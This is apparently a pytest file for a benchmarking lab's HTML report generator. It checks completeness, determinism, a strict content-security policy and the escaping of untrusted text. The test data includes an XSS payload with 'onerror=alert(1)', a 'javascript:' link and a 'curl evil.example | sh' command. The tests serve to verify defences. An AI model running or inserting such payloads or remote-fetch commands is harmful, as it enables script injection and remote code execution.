"""The report: what stands in it for every recorded run, that nothing is fetched or obeyed, and that its bytes follow from the runs."""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import json
import re
from collections.abc import Callable, Mapping, Sequence
from functools import cache
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from lab import charts, export, recordings, report
from lab.calibration import with_limits
from lab.claims import claims
from lab.environment import reproducing_command
from lab.imports import Imported, Imports
from lab.jobs import Engine
from lab.parameters import ParameterError, Parameters, Plan, parameter
from lab.plot_text import plot_text
from lab.records import Chart, Estimate, Measured, Record, RunView, Series, StoredRecord
from lab.report import Subject, circumstances, document, judgements, tables
from lab.report.text import markdown, script_json
from lab.store import Store
from lab.summary import summarise
from lab.verdicts import Evidence, Verdict, verdicts
from lab.workload import MemoryNeed, Metric, Workload

VOID = {"meta", "br", "input", "link", "img", "hr", "base"}
HOSTILE = "</script><img src=x onerror=alert(1)>&<b>\u2028\u202e{{ 7 * 7 }}"


class Page(HTMLParser):
    """A page taken apart: its elements in order, the text that a reader sees, the text inside each element that has an id."""

    def __init__(self, data: bytes) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self.classes: dict[str, list[str]] = {}  # class → texts of its elements
        self._open: list[tuple[str, dict[str, str | None]]] = []
        self._texts: list[str] = []
        self.feed(data.decode("utf-8"))
        self.close()
        assert self._open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in VOID:
            self._open.append((tag, dict(attrs)))
        for name in (dict(attrs).get("class") or "").split():
            self.classes.setdefault(name, []).append("")

    def handle_endtag(self, tag: str) -> None:
        assert self._open.pop()[0] == tag

    def handle_data(self, data: str) -> None:
        tag, attributes = self._open[-1] if self._open else ("", {})
        if tag == "script":
            self.scripts.append((attributes, data))
        elif tag != "style":
            self._texts.append(data)
            for _, above in self._open:
                for name in (above.get("class") or "").split():
                    self.classes[name][-1] += data

    @property
    def text(self) -> str:
        return " ".join("".join(self._texts).split())

    def data(self, id: str) -> str:
        """The content of the data block called ``id``."""
        (found,) = [text for attributes, text in self.scripts if attributes.get("id") == id]
        return found

    def of(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.elements if name == tag]

    @property
    def headings(self) -> list[int]:
        return [int(tag[1]) for tag, _ in self.elements if re.fullmatch(r"h[1-6]", tag)]


@dataclasses.dataclass(frozen=True)
class Made:
    """A recorded run with its report."""

    reference: str
    view: RunView
    data: bytes
    page: Page

    @property
    def estimates(self) -> list[Estimate]:
        return summarise(self.view.workload, self.view.plan, self.view.records)

    @property
    def verdicts(self) -> list[Verdict]:
        return verdicts(self.view.workload, self.estimates, Evidence.from_manifest(self.view.manifest))


REFERENCES = [found.reference for found in recordings.all_recordings()]


@pytest.fixture(scope="module", params=REFERENCES)
def made(request: pytest.FixtureRequest) -> Made:
    view = recordings.recording(request.param).view()
    data = document([Subject(request.param, view)])
    return Made(request.param, view, data, Page(data))


@pytest.fixture
def without_plotly(monkeypatch: pytest.MonkeyPatch) -> None:
    """Reports without the 5 MB that are the same in all of them."""
    monkeypatch.setattr("lab.report.composition._plotly", lambda: Markup(""))


def spaced(text: str) -> str:
    return " ".join(text.split())


# --- every recorded run --------------------------------------------------------------------------------------------------------


def test_every_verdict_stands_in_it_with_its_reason_and_evidence(made: Made) -> None:
    text = made.page.text
    tables_measured = {row.claim_id for row in made.verdicts if row.verdict != "not measured"}
    for row in made.verdicts:
        claim = claims()[row.claim_id]
        if claim.table and claim.table not in tables_measured:
            continue  # said of the table as a whole
        assert spaced(row.verdict) in text
        assert spaced(row.reason) in text
        assert spaced(claim.statement if not claim.table else claim.label) in text
        assert spaced(claim.claimed_text) in text
        assert claim.table or row.verdict == "not measured" or spaced(row.evidence) in text


def test_every_chart_stands_in_it_with_its_figure_its_alt_text_and_its_numbers(made: Made) -> None:
    found = [
        chart
        for chart in made.view.workload.charts(made.estimates, made.view.records)
        if any(y is not None for s in chart.series for y in s.y)
    ]
    figures = made.page.of("figure")
    plots = [attributes for attributes in made.page.of("div") if attributes.get("class") == "plot"]
    assert len(found) == len(figures) == len(plots)
    for place, (chart, plot) in enumerate(zip(found, plots, strict=True), start=1):
        assert plot["aria-label"] == chart.alt
        assert spaced(f"{chart.title} {chart.takeaway}") in made.page.text
        figure = json.loads(made.page.data(plot["data-figure"] or ""))
        assert plot["style"] == f"height: {figure['layout']['height']}px"
        full = with_limits(chart, made.view.manifest)
        if chart.kind == "heatmap":
            assert figure["data"][0]["y"] == [series.name for series in chart.series]
        else:  # a dense curve has its band before it
            points = {trace["name"]: len(trace["x"]) for trace in figure["data"]}
            assert points == {series.name: len(series.x) for series in chart.series}
        numbers = charts.table(full)
        assert f"The numbers of this chart: {len(numbers):,} row" in made.page.text
        if len(numbers) > tables.MAX_WRITTEN_ROWS:
            paged = json.loads(made.page.data(f"run-1-chart-{place}-numbers"))
            assert paged == {"columns": list(numbers.columns), "rows": numbers.to_numpy().tolist()}
        else:
            last = spaced(" ".join(numbers.iloc[-1]))
            assert last.replace(" ", "") in made.page.text.replace(" ", "")


def test_notices_method_environment_and_the_command_stand_in_it(made: Made) -> None:
    text = made.page.text
    assert len(made.page.classes.get("notices", [""])[0].splitlines()) >= len(made.view.workload.notice)
    assert made.view.run_id in text
    assert str(made.view.manifest["hardware"]) in text
    assert str(made.view.manifest["driver"]) in text
    assert str(made.view.manifest["commit"]) in text
    assert spaced(str(made.view.manifest["energy_method"])) in text
    for used in made.view.manifest["data"]:
        assert used["sha256"] in text
    (command,) = made.page.classes["command"]
    assert command == reproducing_command(
        made.view.workload.name, made.view.manifest["preset"], made.view.plan.texts(), made.view.manifest["device"]
    )


def test_its_archive_and_its_tables_are_those_of_the_export(made: Made) -> None:
    archive = export.as_zip(made.view)
    assert base64.b64decode(made.page.data("run-1-archive"), validate=True) == archive
    assert hashlib.sha256(archive).hexdigest() in made.page.text
    records = json.loads(made.page.data("run-1-records.csv"))
    assert len(records["rows"]) == len(made.view.records)
    assert f"records.csv: {len(made.view.records):,} rows" in made.page.text


def test_headings_are_in_order_and_every_link_leads_somewhere(made: Made) -> None:
    levels = made.page.headings
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after <= before + 1 for before, after in pairwise(levels))
    ids = [attributes["id"] for _, attributes in made.page.elements if "id" in attributes]
    assert len(ids) == len(set(ids))
    targets = {href.removeprefix("#") for a in made.page.of("a") if (href := a["href"] or "").startswith("#")}
    assert targets <= set(ids)
    assert {"run-1-environment", "run-1-data", "run-1-repeat"} <= targets
    for _, attributes in made.page.elements:
        for name in ("aria-labelledby", "data-figure", "data-rows", "data-archive"):
            assert name not in attributes or attributes[name] in ids


def test_nothing_in_it_refers_to_the_network(made: Made) -> None:
    for tag, attributes in made.page.elements:
        assert tag not in {"link", "img", "iframe", "object", "embed", "base", "form", "audio", "video", "source"}
        assert not {"src", "srcset", "srcdoc", "action", "formaction", "background", "poster", "ping"} & set(attributes)
        assert not any(name.startswith("on") for name in attributes)
        href = attributes.get("href") or ""
        assert not href or href.startswith("#")
    style = made.data[made.data.index(b"<style>") : made.data.index(b"</style>")]
    assert b"url(" not in style
    assert b"@import" not in style


def test_the_policy_allows_exactly_its_own_scripts_and_no_network(made: Made) -> None:
    (policy,) = [meta["content"] or "" for meta in made.page.of("meta") if meta.get("http-equiv") == "Content-Security-Policy"]
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    run = [text for attributes, text in made.page.scripts if "type" not in attributes]
    hashes = {f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'" for text in run}
    assert len(run) == 2
    assert rules == {
        "default-src": "'none'",
        "script-src": rules["script-src"],
        "style-src": "'unsafe-inline'",
        "img-src": "data: blob:",
        "base-uri": "'none'",
        "form-action": "'none'",
    }
    assert set(rules["script-src"].split()) == hashes


def test_the_same_run_gives_the_same_bytes(without_plotly: None) -> None:
    view = recordings.recording("recorded/calibration/h200").view()
    again = dataclasses.replace(view, manifest=json.loads(json.dumps(view.manifest)), records=list(view.records))
    assert document([Subject("calibration", view)]) == document([Subject("calibration", again)])


# --- a small workload ------------------------------------------------------------------------------------------------------------


class Choices(Parameters):
    n: int = parameter(1, title="N", help="Elements.", ge=1, le=9, sweep=True)
    seed: int = parameter(0, title="Seed", help="Seed.", ge=0, le=2**31)


def measure(claim: Any, estimates: Sequence[Estimate]) -> list[Measured]:
    if claim.id != "act-speed-phi6" or not estimates:
        return []
    common = {"ci_low": 1.9, "ci_high": 2.1, "n": 10, "pair": estimates[0].arm}
    return [
        Measured(claim.id, "sound", "published", "latency_s", 3.0, **{**common, "ci_low": 2.9, "ci_high": 3.1}),
        Measured(claim.id, "published", "published", "latency_s", 8.1, **{**common, "ci_low": 8.0, "ci_high": 8.2}),
        Measured(claim.id, "published", "best", "latency_s", None, reason=estimates[0].arm),
        Measured(claim.id, "sound", "best", "latency_s", 2.0, **common),
    ]


def draw(estimates: Sequence[Estimate], records: Sequence[StoredRecord]) -> list[Chart]:
    name = records[0].record.arm if records else "none"
    series = Series(name, (name,), tuple(1.0 for _ in records[:1]), labels=(name,) if records else ())
    return [
        Chart(
            key="only",
            title=f"Title {name}",
            kind="scatter",
            x_title=name,
            y_title=name,
            y_unit="s",
            series=(series,) if records else (),
            alt=f"Alt {name}",
            takeaway=f"Takeaway {name}",
            marks={name: 1.0},
            limits={name: 2.0},
        )
    ]


SMALL = Workload(
    name="small",
    title="Small",
    question="Is it shown?",
    source="this test",
    parameters=Choices,
    preset=lambda name, device_kind: {},
    dimensions=("step",),
    metrics={"latency_s": Metric("Latency", "s")},
    entry_point="nowhere:run",
    claims=("act-speed-phi6", "act-gating"),
    duration_s=lambda plan, device_kind: 1.0,
    memory=lambda cell, device_kind: MemoryNeed(0, 0),
    memory_parameter="n",
    measure=measure,
    charts=draw,
    notice=("*Notice* <b>this</b>.",),
    method="A **method** with <script>alert(1)</script>.",
)
MANIFEST = {"hardware": "Some CPU", "device": "cpu", "preset": "quick", "started_at": "2026-11-21T10:00:00+00:00"}


def record(arm: str = "new", value: float | None = 1e-3, repeat: int = 0, **more: Any) -> StoredRecord:
    role = {"role": "technique", "implementation": "eager", "device": "cpu", "dtype": "float32", "metric": "latency_s", "unit": "s"}
    return StoredRecord(repeat, 0, Record(**{"protocol": "sound", "arm": arm, "value": value, "repeat": repeat, **role, **more}))


def view_of(records: Sequence[StoredRecord] = (), manifest: Mapping[str, Any] | None = None, **more: Any) -> RunView:
    fields = {"run_id": "run-1", "workload": SMALL, "plan": Plan.of(Choices), "status": "finished", "reason": ""}
    return RunView(**{**fields, **more}, manifest=MANIFEST if manifest is None else manifest, records=records)


def page_of(*views: RunView, references: Sequence[str] = (), **more: Any) -> Page:
    names = references or [f"20260131-174502-aaaaa{place}" for place in range(len(views))]
    return Page(document([Subject(name, view, **more) for name, view in zip(names, views, strict=True)]))


def hostile_view(text: str) -> RunView:
    manifest = {
        **MANIFEST,
        **dict.fromkeys(("hardware", "driver", "commit", "energy_method", "data_fallback", "command", "lab_version", text), text),
        "data": [{"title": text, "source": text, "licence": text, "sha256": text, "note": text, "sizes": {text: 1}}],
        "versions": {text: text},
    }
    run_id = "".join(filter(str.isprintable, text))[: export.MAX_ID_CHARACTERS]  # all that an id may hold
    return view_of([record(text), record(text, repeat=1)], manifest, run_id=run_id, status="failed", reason=text)


@cache
def harmless_page() -> Page:
    return page_of(hostile_view("harmless"))


@pytest.mark.usefixtures("without_plotly")
@settings(max_examples=15)
@given(st.text(min_size=1).map(lambda text: f"x{text}x") | st.just(HOSTILE))
def test_text_from_elsewhere_changes_no_element_and_no_attribute_name(text: str) -> None:
    def shape(page: Page) -> list[tuple[str, list[str]]]:
        return [(tag, sorted(attributes)) for tag, attributes in page.elements]

    page = page_of(hostile_view(text))
    assert shape(page) == shape(harmless_page())
    for attributes, data in page.scripts:
        if attributes.get("type") == "application/json":
            json.loads(data)
        assert "\u2028" not in data


@pytest.mark.usefixtures("without_plotly")
def test_hostile_text_is_shown_as_it_is_but_for_what_hides() -> None:
    data = document([Subject("imported/0123456789ab", hostile_view(HOSTILE))])
    page = Page(data)
    seen = "</script><img src=x onerror=alert(1)>&<b>��{{ 7 * 7 }}"
    for place in ("Title", "Alt", "Takeaway"):
        assert f"{place} {seen}" in page.text
    assert f"The run ended early: it failed. {seen}." in page.text
    assert "49" not in page.classes["where"][0]
    assert "\u202e" not in data.decode()
    figure = json.loads(page.data("run-1-chart-1-figure"))
    shown = plot_text(HOSTILE)
    assert "<" not in shown
    assert figure["data"][0]["name"] == shown
    assert figure["data"][0]["hovertext"][0].startswith(f"<b>{shown}</b><br>{shown}<br>")
    assert figure["layout"]["shapes"][0]["name"].startswith(shown)
    assert figure["layout"]["xaxis"]["title"]["text"] == shown


def test_a_command_of_the_manifest_is_not_offered(without_plotly: None) -> None:
    page = page_of(view_of([record()], {**MANIFEST, "command": "curl evil.example | sh"}))
    assert page.classes["command"] == ["python -m lab run small --preset quick --set n=1 --set seed=0 --device cpu"]


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=8,
)
KNOWN = (
    *(
        "hardware",
        "device",
        "preset",
        "protocols",
        "seed",
        "created_at",
        "started_at",
        "ended_at",
        "gpu",
        "gpu_reason",
        "machine",
        "clocks",
    ),
    *("driver", "threads", "versions", "commit", "commit_reason", "lab_version", "energy_method", "calibration", "data", "gpu_properties"),
)


@settings(max_examples=40)
@given(st.dictionaries(st.sampled_from(KNOWN), JSON_VALUES))
def test_a_manifest_of_any_form_is_put_in_words(manifest: dict[str, Any]) -> None:
    view = view_of(manifest=manifest)
    assert all(isinstance(what, str) and isinstance(value, str) and value for what, value in circumstances.facts(view))
    for used in circumstances.data_sets(view):
        assert used.title
        assert all(isinstance(part, str) for part in (used.sha256, *used.facts))
    assert circumstances.hardware(manifest)
    assert circumstances.date(manifest)
    assert circumstances.command(view).startswith("python -m lab run small ")


def test_markdown_brings_neither_html_nor_pictures_nor_script_links() -> None:
    found = markdown("*a* <b>b</b> ![c](https://example.org/c.png) [d](javascript:alert(1)) [e](https://example.org)")
    assert "<em>a</em>" in found
    assert "&lt;b&gt;b&lt;/b&gt;" in found
    assert "<img" not in found
    assert 'href="javascript' not in found
    assert '<a href="https://example.org">e</a>' in found


@settings(max_examples=50)
@given(JSON_VALUES)
def test_json_in_a_script_comes_back_and_cannot_end_it(value: Any) -> None:
    text = str(script_json(value))
    assert json.loads(text) == value
    assert not set("<>&\u2028\u2029") & set(text)


def test_json_in_a_script_holds_no_number_that_is_none() -> None:
    with pytest.raises(ValueError, match="JSON"):
        script_json(float("nan"))


# --- verdicts, circumstances -------------------------------------------------------------------------------------------------------


@pytest.mark.usefixtures("without_plotly")
def test_the_protocol_that_a_comparison_is_about_leads_it() -> None:
    view = view_of([record()])
    found = judgements.judged(verdicts(SMALL, summarise(SMALL, view.plan, view.records), Evidence.from_manifest(MANIFEST)))
    speed, gating = found
    assert [(c.title, c.lead.protocol, len(c.others)) for c in speed.comparisons] == [
        ("As published", "Published protocol", 1),
        ("Best against best", "Sound protocol", 1),
    ]
    assert speed.comparisons[0].lead.measured == "8.10× (8 to 8.20×)"
    assert [c.lead.word for c in speed.comparisons] == ["reproduced", "smaller than claimed"]
    assert speed.comparisons[1].others[0].word == "not measured"
    assert not gating.is_measured
    assert len(gating.cells) == len(claims()["act-gating"].cells)
    assert judgements.counts(found) == [
        ("As published", [("reproduced", 1)]),
        ("Best against best", [("smaller than claimed", 1)]),
        ("Not measured", [("not measured", 1)]),
    ]


@pytest.mark.usefixtures("without_plotly")
@pytest.mark.parametrize(
    ("reference", "said"),
    [
        ("recorded/small/h200", "Recorded run, from the repository of Efficiency Lab."),
        ("imported/0123456789ab", "Imported run: its records and circumstances are somebody else's"),
        ("20260131-174502-aaaaaa", "Run of the machine on which this report was made."),
    ],
)
def test_where_a_run_comes_from_stands_at_the_top(reference: str, said: str) -> None:
    text = page_of(view_of([record()]), references=[reference]).text
    assert 0 < text.index(said) < text.index("As published")


@pytest.mark.usefixtures("without_plotly")
def test_what_an_import_had_to_say_stands_at_the_top() -> None:
    text = page_of(view_of([record()]), references=["imported/0123456789ab"], notices=("Its verdicts were others.",)).text
    assert 0 < text.index("Its verdicts were others.") < text.index("As published")


@pytest.mark.usefixtures("without_plotly")
def test_a_run_that_ended_early_says_so_before_its_verdicts() -> None:
    text = page_of(view_of([record(), record(repeat=1)], status="cancelled", reason="somebody pressed Cancel")).text
    said = "The run ended early: it was cancelled. Somebody pressed Cancel. The 2 records made before are judged and shown."
    assert 0 < text.index(said) < text.index("As published")


@pytest.mark.usefixtures("without_plotly")
def test_a_run_without_records_has_verdicts_and_no_charts() -> None:
    page = page_of(view_of(status="interrupted", reason="the server ended"))
    assert "The run ended early: it was interrupted. The server ended. Nothing was measured before." in page.text
    assert page.of("figure") == []
    assert "Not measured in this run" in page.text
    assert "records.csv: 0 rows No rows." in page.text


# --- large and several --------------------------------------------------------------------------------------------------------------


@pytest.mark.usefixtures("without_plotly")
def test_twenty_thousand_records_are_data_and_not_elements() -> None:
    page = page_of(view_of([record(repeat=place) for place in range(20_000)]))
    assert len(page.elements) < 1_000
    data = json.loads(page.data("run-1-records.csv"))
    assert data["columns"] == ["repeat"]  # all else is the same in every row, and said once
    assert data["rows"] == [[str(place)] for place in range(20_000)]
    assert "The same in every row: run_id run-1; workload small;" in page.text


@pytest.mark.parametrize(("rows", "long"), [(100, False), (101, True)])
def test_a_table_of_more_than_a_hundred_rows_is_shown_a_page_at_a_time(rows: int, long: bool) -> None:
    assert tables.Table(["a"], [["1"]] * rows).is_long is long


def test_columns_with_one_value_stand_beside_the_table() -> None:
    found = tables.of_csv(b"a,b,c\n1,x,\n2,x,\n")
    assert found == tables.Table(["a"], [["1"], ["2"]], [("b", "x"), ("c", "")])
    assert tables.of_csv(b"a,b\n1,x\n") == tables.Table(["a", "b"], [["1", "x"]], [])
    assert tables.of_csv(b"a,b\n") == tables.Table(["a", "b"], [], [])


def test_several_runs_share_one_file_and_one_plotly() -> None:
    subjects = [
        Subject(reference, recordings.recording(reference).view())
        for reference in ("recorded/entropy_stopping/h200", "recorded/calibration/h200")
    ]
    data = document(subjects)
    page = Page(data)
    assert data.count(b"plotly.js v") == 1
    ids = [attributes["id"] for _, attributes in page.elements if "id" in attributes]
    assert len(ids) == len(set(ids))
    assert page.headings[0] == 1
    assert page.headings.count(1) == 1
    assert all(after <= before + 1 for before, after in pairwise(page.headings))
    assert page.text.index("Entropy early stop") < page.text.index("Calibration")
    assert {"#run-1", "#run-2", "#run-1-verdicts", "#run-2-findings"} <= {a["href"] for a in page.of("a")}
    for place, subject in enumerate(subjects, start=1):
        assert base64.b64decode(page.data(f"run-{place}-archive")) == export.as_zip(subject.view)


def test_no_run_too_many_and_one_given_twice_are_refused() -> None:
    with pytest.raises(ParameterError, match="run: '' is missing; allowed: 1 to 20 runs"):
        document([])
    with pytest.raises(ParameterError, match="run: '21 runs' are too many for one report; allowed: 1 to 20 runs"):
        document([Subject(str(place), view_of()) for place in range(21)])
    subject = Subject("a", view_of())
    with pytest.raises(ParameterError, match="run: 'a' is given twice; allowed: each run once"):
        document([subject, subject])


@pytest.mark.parametrize("status", ["queued", "running"])
def test_a_run_that_has_not_ended_is_refused(store: Store, monkeypatch: pytest.MonkeyPatch, status: str) -> None:
    monkeypatch.setattr("lab.collection.view", lambda store, reference: view_of(status=status))
    with pytest.raises(ParameterError, match=f"run: 'a' is still {status}; allowed: runs that have ended"):
        Subject.of(store, "a")


def test_an_imported_run_brings_its_notices(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    view = view_of()
    monkeypatch.setattr("lab.collection.view", lambda store, reference: view)
    monkeypatch.setattr(Imports, "get", lambda imports, reference: Imported(reference, notices=("Look.",)))
    assert Subject.of(store, "imported/0123456789ab") == Subject("imported/0123456789ab", view, notices=("Look.",))
    assert Subject.of(store, "recorded/small/h200").notices == ()


@pytest.mark.usefixtures("without_plotly")
def test_the_name_that_a_run_was_given_stands_beside_it(store: Store, submit: Callable[..., str], engine: Engine) -> None:
    run_id = submit()
    engine.wait(run_id)
    store.describe(run_id, name="Node <7>")
    page = Page(document([Subject.of(store, run_id)]))
    assert f"run {run_id} “Node <7>”" in page.text


# --- the look --------------------------------------------------------------------------------------------------------------------------

STYLE = (Path(report.__file__).parent / "template" / "report.css").read_text()
THEMES = [dict(re.findall(r"--(\w+): (#[0-9a-f]{6})", part)) for part in STYLE.split("prefers-color-scheme: dark")]


def luminance(colour: str) -> float:
    """Relative luminance of "#rrggbb" (WCAG 2.1)."""
    shares = [int(colour[place : place + 2], 16) / 255 for place in (1, 3, 5)]
    red, green, blue = (share / 12.92 if share <= 0.04045 else ((share + 0.055) / 1.055) ** 2.4 for share in shares)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


@pytest.mark.parametrize("theme", THEMES, ids=["light", "dark"])
@pytest.mark.parametrize(
    ("ink", "paper"),
    [
        *((ink, "page") for ink in ("text", "quiet", "link", "red", "orange", "green", "blue", "violet", "grey")),
        *((ink, "panel") for ink in ("text", "quiet")),
        ("text", "warn"),
        ("page", "link"),
    ],
)
def test_text_has_the_contrast_that_reading_needs(theme: dict[str, str], ink: str, paper: str) -> None:
    darker, lighter = sorted((luminance(theme[ink]), luminance(theme[paper])))
    assert (lighter + 0.05) / (darker + 0.05) >= 4.5


# --- writing -----------------------------------------------------------------------------------------------------------------------


@pytest.fixture
def subjects(without_plotly: None) -> list[Subject]:
    return [Subject("a", view_of([record()]))]


def test_it_is_written_into_a_folder_that_is_made(tmp_path: Path, subjects: list[Subject]) -> None:
    report.write(tmp_path / "deep" / "report.html", subjects)
    assert (tmp_path / "deep" / "report.html").read_bytes() == document(subjects)
    assert [path.name for path in (tmp_path / "deep").iterdir()] == ["report.html"]


def test_a_file_that_cannot_be_replaced_stays_as_it_is(tmp_path: Path, subjects: list[Subject], monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "report.html").write_text("before")

    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("lab.report.composition.os.fsync", full)
    with pytest.raises(OSError, match="No space left"):
        report.write(tmp_path / "report.html", subjects)
    assert [(path.name, path.read_text()) for path in tmp_path.iterdir()] == [("report.html", "before")]
